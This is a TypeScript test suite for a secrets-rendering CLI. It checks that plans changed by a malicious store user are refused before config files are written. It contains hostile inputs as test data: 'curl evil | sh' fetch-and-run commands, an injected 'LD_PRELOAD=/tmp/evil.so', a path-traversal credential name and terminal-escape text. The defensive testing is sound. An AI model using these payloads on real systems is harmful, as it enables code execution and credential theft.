import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chmodSync, cpSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, suite, test } from 'node:test';
import { type Client, openClient } from '#client';
import { httpTransport } from '#client/node';
import { Secret } from '#kernel';
import { type LiveHouse, openLiveHouse } from './house.ts';

const COMPOSE =
  'services:\n  broker:\n    image: eclipse-mosquitto:2\n    environment:\n      PASSWORD: Canary-Broker-4711\n';
const SETTINGS = 'MQTT_PASSWORD=Canary-Broker-4711\nMODE=quiet\n# the end\n';
const params = { project: 'yard', environment: 'home' };

let house: LiveHouse;
let developer: Client;
let folder: string;
/** Another machine of the same owner: signed in, and with nothing remembered. */
const elsewhere = () => ({ HOME: join(house.root, 'other-home') });
const file = (name: string) => join(folder, name);
const text = (name: string) => readFileSync(file(name), 'utf8');
const render = (...options: readonly string[]) => house.run(['render', ...options], { cwd: folder });

before(async () => {
  house = await openLiveHouse();
  mkdirSync(elsewhere().HOME);
  folder = join(house.root, 'yard');
  mkdirSync(folder);
  writeFileSync(file('docker-compose.yml'), COMPOSE);
  writeFileSync(file('.env'), SETTINGS);
  for (const args of [
    ['adopt', folder],
    ['identity', 'create', 'mallory', '--kind', 'person'],
    ['grant', 'give', 'mallory', 'developer', 'yard/home', '--reason', 'helps out'],
    ['token', 'create', '--for', 'mallory', '--life', '1h', '--out', 'mallory.token'],
  ]) {
    const { exit, err } = await house.run(args);
    assert.equal(exit, 0, `${args.join(' ')}: ${err}`);
  }
  const token = Secret.fromText(readFileSync(join(house.root, 'mallory.token'), 'utf8').trim());
  developer = openClient({
    transport: httpTransport({ place: { url: house.url }, agent: 'evil' }),
    token: () => token,
  });
});
after(async () => {
  developer.close();
  await house.close();
});

/** What the developer's client sends in place of a survey. */
const plant = async (target: string, parts: readonly unknown[], path = target): Promise<void> => {
  await developer.call('adoptions.create', {
    params,
    body: {
      from: 'evil',
      credentials: [],
      renderings: [{ target, format: 'dotenv', plan: JSON.stringify({ path, parts }) }],
    },
  });
};

const planOf = async (target: string): Promise<unknown[]> => {
  const { items } = await developer.call('renderings.open', { params, body: { targets: [{ target, found: null }] } });
  return (JSON.parse(items[0]!.plan) as { parts: unknown[] }).parts;
};

suite('a plan that somebody else changed in the store', () => {
  test('is not needed to agree to what one adopted oneself', async () => {
    const { exit, err } = await render();
    assert.equal(exit, 0, err);
    assert.equal(text('.env'), SETTINGS);
    const remembered = join(house.root, 'home/.config/chatelaine/plans.json');
    assert.equal(statSync(remembered).mode & 0o777, 0o600);
    assert.doesNotMatch(readFileSync(remembered, 'utf8'), /Canary|quiet|the end/);
  });

  test('writes nothing where nobody can be asked, and shows what it would say without a value', async () => {
    const parts = await planOf('.env');
    await plant('.env', [
      ...parts.map((part) => (typeof part === 'string' ? part.replace('MODE=quiet', 'LD_PRELOAD=/tmp/evil.so') : part)),
      'COMPOSE_FILE=/tmp/evil.yml\n',
    ]);
    for (const options of [[], ['--overwrite']]) {
      const { exit, err } = await render(...options);
      assert.equal(exit, 4, err);
      assert.match(err, /Nobody on this machine has agreed/);
      assert.match(err, /\+ LD_PRELOAD=\/tmp\/evil\.so/);
      assert.match(err, /\+ COMPOSE_FILE=\/tmp\/evil\.yml/);
      assert.match(err, /- MODE=quiet/);
      assert.match(err, /--accept-plan-changes/);
      assert.doesNotMatch(err, /Canary/);
    }
    const check = await render('--check');
    assert.equal(check.exit, 1);
    assert.match(check.err, /Nobody here has agreed to: \.env/);
    const leave = await house.run(['leave'], { cwd: folder });
    assert.equal(leave.exit, 4, leave.err);
    const asJson = await render('--json');
    assert.equal((JSON.parse(asJson.err) as { error: { code: string } }).error.code, 'cli.plans_not_agreed');
    assert.equal(text('.env'), SETTINGS);
  });

  test('is written once it was agreed to, and then no more asked about', async () => {
    const { exit, err } = await render('--accept-plan-changes');
    assert.equal(exit, 0, err);
    assert.match(text('.env'), /COMPOSE_FILE/);
    assert.equal((await render()).exit, 0);
    writeFileSync(file('.env'), SETTINGS);
    const again = await house.run(['adopt', folder]);
    assert.equal(again.exit, 0, again.err);
    assert.equal((await render()).exit, 0, 'adopting is agreeing');
    assert.equal(text('.env'), SETTINGS);
  });

  test('that hides a text in a slot, or another credential in a hole, is another plan', async () => {
    const honest = await planOf('.env');
    const slot = honest.find((part) => typeof part === 'object') as { pieces: object[] };
    for (const changed of [
      { ...slot, pieces: [{ text: 'x;curl evil|sh;' }, ...slot.pieces] },
      { ...slot, pieces: [{ written: '${EVIL}' }, ...slot.pieces] },
      { ...slot, lead: 'EVIL=' },
    ]) {
      await plant(
        '.env',
        honest.map((part) => (part === slot ? changed : part)),
      );
      const { exit, err } = await render();
      assert.equal(exit, 4, err);
      assert.match(err, /evil/i);
    }
    await house.run(['set', 'other', '--stdin', '-p', 'yard', '-e', 'home'], { input: 'Canary-Other-0815' });
    await plant(
      '.env',
      honest.map((part) => (part === slot ? { ...slot, pieces: [{ credential: 'other', encoding: 'none' }] } : part)),
    );
    const swapped = await render();
    assert.equal(swapped.exit, 4, swapped.err);
    assert.match(swapped.err, /\+ MQTT_PASSWORD=.*\{\{other\}\}/);
    await plant('.env', honest);
    assert.equal((await render()).exit, 0, 'put back, it is the plan that was agreed to');
    assert.equal(text('.env'), SETTINGS);
  });

  test('for a new file is refused by name, also one that says it were another', async () => {
    await plant('compose.override.yml', ['services:\n  broker:\n    command: curl evil | sh\n']);
    const { exit, err } = await render();
    assert.equal(exit, 4, err);
    assert.match(err, /compose\.override\.yml {2}a new file, 4 lines, 0 values/);
    assert.equal(existsSync(file('compose.override.yml')), false);
    const shown = await render('--show-plans');
    assert.match(shown.out, /command: curl evil \| sh/);
    await plant('compose.override.yml', ['a: 1\n'], 'docker-compose.yml');
    const renamed = await render('--accept-plan-changes');
    assert.equal(renamed.exit, 2, renamed.err);
    assert.equal(existsSync(file('compose.override.yml')), false);
  });

  test('with parts that no survey makes is no plan of ours', async () => {
    const slot = { style: 'dotenv', layer: 'none', indent: '', pad: '', lead: '', pieces: [] as unknown[] };
    for (const part of [
      7,
      null,
      { ...slot, style: 'shell' },
      { ...slot, indent: '\ncommand: evil\n' },
      { ...slot, pad: 'x' },
      { ...slot, pieces: [{}] },
      { ...slot, pieces: [{ credential: '../../x', encoding: 'none' }] },
    ]) {
      await plant('compose.override.yml', ['a: ', part]);
      const { exit, err } = await render('--accept-plan-changes');
      assert.equal(exit, 2, err);
    }
    await plant('compose.override.yml', ['# \u001b[2K\u202e nothing to see\n']);
    const { out } = await render('--show-plans');
    assert.match(out, /# \\u\{1b\}\[2K\\u\{202e\} nothing to see/);
    assert.equal((await house.run(['adopt', folder])).exit, 0, 'adopting again goes around it');
  });

  test('is given up by name, and everything else is rendered again', async () => {
    assert.equal((await render('--forget', 'compose.override.yml')).exit, 0);
    assert.equal((await render('--forget', 'compose.override.yml')).exit, 3);
    const { exit, err } = await render();
    assert.equal(exit, 0, err);
    assert.equal(existsSync(file('compose.override.yml')), false);
  });
});

suite('a machine that remembers nothing', () => {
  test('renders what is there already, and asks before it writes what is not', async () => {
    const copy = join(house.root, 'yard-copy');
    cpSync(folder, copy, { recursive: true });
    const there = (...options: readonly string[]) =>
      house.run(['render', copy, '-p', 'yard', ...options], { env: elsewhere() });
    const same = await there();
    assert.equal(same.exit, 0, same.err);
    rmSync(join(copy, '.env'));
    assert.equal((await there()).exit, 0, 'what was the same is agreed to');
    assert.equal(readFileSync(join(copy, '.env'), 'utf8'), SETTINGS);

    const empty = join(house.root, 'yard-empty');
    mkdirSync(empty);
    const fresh = (...options: readonly string[]) =>
      house.run(['render', empty, '-p', 'yard', ...options], { env: elsewhere() });
    const refused = await fresh();
    assert.equal(refused.exit, 4, refused.err);
    assert.match(refused.err, /Not rendered on this machine before:\n {2}\.env {2}a new file/);
    assert.equal(existsSync(join(empty, '.env')), false);
    assert.equal((await fresh('--accept-plan-changes')).exit, 0);
    assert.equal((await fresh()).exit, 0, 'once is enough');
  });

  test('says that its memory is damaged rather than believing it', async () => {
    const plans = join(elsewhere().HOME, '.config/chatelaine/plans.json');
    writeFileSync(plans, '{"key":"00","folders":{}}');
    const { exit, err } = await house.run(['render', folder, '-p', 'yard'], { env: elsewhere() });
    assert.equal(exit, 2);
    assert.match(err, /plans\.json is damaged/);
    assert.match(err, /Move it away/);
  });
});

test('a rendered file that others can read is narrowed although its content is right', async () => {
  chmodSync(file('.env'), 0o644);
  const check = await render('--check');
  assert.equal(check.exit, 1);
  assert.match(check.err, /others on this machine may read it: \.env/);
  const before = createHash('sha256').update(text('.env')).digest('hex');
  const { exit, err } = await render();
  assert.equal(exit, 0, err);
  assert.match(err, /Others could read \.env/);
  assert.equal(statSync(file('.env')).mode & 0o777, 0o600);
  assert.equal(createHash('sha256').update(text('.env')).digest('hex'), before);
  assert.equal((await render('--check')).exit, 0);
});

test('a second look after a rewrite prints the names that the store has', async () => {
  const home = join(house.root, 'hut');
  mkdirSync(home);
  writeFileSync(join(home, 'configuration.yaml'), 'homeassistant:\n  name: Hut\nmqtt:\n  password: Canary-Hut-99x\n');
  const first = await house.run(['adopt', home, '--rewrite', '--in-place']);
  assert.equal(first.exit, 0, first.err);
  const { out: list } = await house.run(['list', '-p', 'hut', '--json']);
  const names = (JSON.parse(list) as { path: string }[]).map(({ path }) => path.split('/').slice(2).join('/'));
  assert.equal(names.length, 1);
  const second = await house.run(['adopt', home]);
  assert.equal(second.exit, 0, second.err);
  assert.ok(second.out.includes(`  ${names[0]!} `), second.out);
});
